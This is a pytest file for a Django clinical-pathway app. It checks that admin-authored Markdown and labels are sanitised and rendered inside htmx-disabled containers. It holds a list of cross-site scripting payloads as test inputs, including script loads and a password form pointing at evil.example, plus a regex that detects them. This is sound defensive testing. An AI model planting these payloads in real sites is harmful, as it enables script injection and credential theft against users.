"""Admin-authored Markdown and labels reach the page sanitised, inside an hx-disable container."""

from __future__ import annotations

import copy
import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from pathways.content_io import import_document, load_bundled
from pathways.rendering import render_markdown
from tests.walking import OBSERVATION_CASE, step_url, walk_with

MARKDOWN_ATTACKS = {
    "script tag": "Before <script>alert(1)</script> after",
    "script tag, mixed case": "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "javascript link, entity-encoded": "[click](&#106;avascript:alert(1))",
    "javascript link, tab inside": '<a href="java&#09;script:alert(1)">click</a>',
    "javascript link, colon entity": '<a href="javascript&colon;alert(1)">click</a>',
    "javascript link, leading space": '<a href=" javascript:alert(1)">click</a>',
    "data URL link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "reference-style javascript link": "[click][x]\n\n[x]: javascript:alert(1)",
    "image onerror": '<img src="x" onerror="alert(1)">',
    "markdown image": "![x](https://evil.example/pixel.png)",
    "svg onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "htmx attributes": '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
    "htmx attributes on a link": '<a href="https://example.org" hx-post="/x" hx-trigger="mouseover">a</a>',
    "data-hx attributes": '<p data-hx-get="/admin/" data-hx-trigger="load">x</p>',
    "style tag": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0">cover</p>',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "base and meta refresh": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
    "event handler on allowed tag": '<strong onclick="alert(1)" onmouseover="alert(2)">bold</strong>',
}

DANGEROUS = re.compile(
    r"<\s*(script|iframe|img|svg|object|embed|style|form|input|base|meta)\b|\son\w+\s*=|\s(data-)?hx-|javascript:|vbscript:|data:text",
    re.IGNORECASE,
)


def assert_harmless(rendered: str) -> None:
    # Unescape once so entity-encoded attacks are seen as the browser would read attribute values.
    assert not DANGEROUS.search(rendered), rendered
    for href in re.findall(r'href="([^"]*)"', rendered):
        assert html.unescape(href).strip().lower().startswith(("https:", "mailto:", "#")), href


@pytest.mark.parametrize("name", sorted(MARKDOWN_ATTACKS))
def test_markdown_attack_is_neutralised(name):
    assert_harmless(str(render_markdown(MARKDOWN_ATTACKS[name])))


def test_safe_markdown_keeps_its_formatting_and_https_links():
    rendered = str(render_markdown("**Bold**, *em* and [a source](https://example.org/guideline)."))
    assert "<strong>Bold</strong>" in rendered and "<em>em</em>" in rendered
    assert '<a href="https://example.org/guideline" rel="noopener noreferrer">a source</a>' in rendered


def test_text_that_looks_like_markup_stays_text():
    rendered = str(render_markdown("Ki-67 < 3 % & > 20 %"))
    assert "&lt; 3 % &amp; &gt; 20 %" in rendered


class _Containers(HTMLParser):
    """Record, for every element with a class of interest, whether an ancestor disables htmx."""

    def __init__(self, classes: set[str]) -> None:
        super().__init__()
        self.classes = classes
        self.stack: list[bool] = []
        self.found: list[tuple[str, bool]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        disabled = (bool(self.stack) and self.stack[-1]) or "hx-disable" in names
        for css in (names.get("class") or "").split():
            if css in self.classes:
                self.found.append((css, disabled))
        if tag not in {"br", "hr", "img", "input", "meta", "link", "area", "col", "wbr"}:
            self.stack.append(disabled)

    def handle_endtag(self, tag: str) -> None:
        if self.stack and tag not in {"br", "hr", "img", "input", "meta", "link", "area", "col", "wbr"}:
            self.stack.pop()


def markdown_containers(page: str) -> list[tuple[str, bool]]:
    parser = _Containers({"rec-text", "node-body"})
    parser.feed(page)
    return parser.found


def hostile_document() -> dict[str, Any]:
    """The PNET pathway with attacks in every admin-authored text a walk shows."""
    document = copy.deepcopy(load_bundled("pnet-v2"))
    attacks = "\n\n".join(MARKDOWN_ATTACKS.values())
    for node in document["nodes"]:
        node["body"] = f"{node.get('body', '')}\n\n{attacks}"
    for rec in document["recommendations"]:
        rec["text"] = f"{rec.get('text', '')}\n\n{attacks}"
        rec["note"] = '<script>alert("note")</script>'
    for variable in document["variables"]:
        # A bell, a zero-width space and a right-to-left override in every label.
        variable["label"] = f"{variable['label']}\x07\u200b\u202e<b>x</b>"
    return document


@pytest.fixture
def hostile_version(db, pnet_version):
    return import_document(hostile_document(), status="published")


@pytest.mark.django_db
def test_hostile_step_page_is_sanitised_and_markdown_sits_in_hx_disable(hostile_version):
    walk = walk_with(hostile_version, {})
    response = Client().get(step_url(walk))
    assert response.status_code == 200
    page = response.content.decode()
    containers = markdown_containers(page)
    assert ("node-body", True) in containers
    assert all(disabled for _, disabled in containers), containers
    assert "<script" not in page.split("</head>", 1)[1].replace('<script src="', "")
    assert "javascript:" not in page.lower()
    assert "&lt;b&gt;x&lt;/b&gt;" in page  # the label is escaped, not markup


@pytest.mark.django_db
def test_hostile_result_page_is_sanitised_and_markdown_sits_in_hx_disable(hostile_version):
    walk = walk_with(hostile_version, OBSERVATION_CASE)
    response = Client().get(f"/pathways/pnet/walks/{walk.pk}/")
    assert response.status_code == 200
    page = response.content.decode()
    body = page.split("</head>", 1)[1]
    containers = markdown_containers(page)
    assert len([c for c in containers if c[0] == "rec-text"]) >= 5
    assert all(disabled for _, disabled in containers), containers
    assert not re.search(r"<script(?![^>]*\bsrc=)", body)
    assert "&lt;script&gt;alert(&quot;note&quot;)&lt;/script&gt;" in page
    for match in re.finditer(r'<div class="rec-text" hx-disable>(.*?)</div>', page, re.DOTALL):
        assert_harmless(match.group(1))


@pytest.mark.django_db
def test_hostile_labels_do_not_break_the_api(hostile_version):
    response = Client().post(
        "/api/pathways/pnet/evaluate", data=OBSERVATION_CASE, content_type="application/json"
    )
    assert response.status_code == 200
    assert response.json()["version"] == hostile_version.number
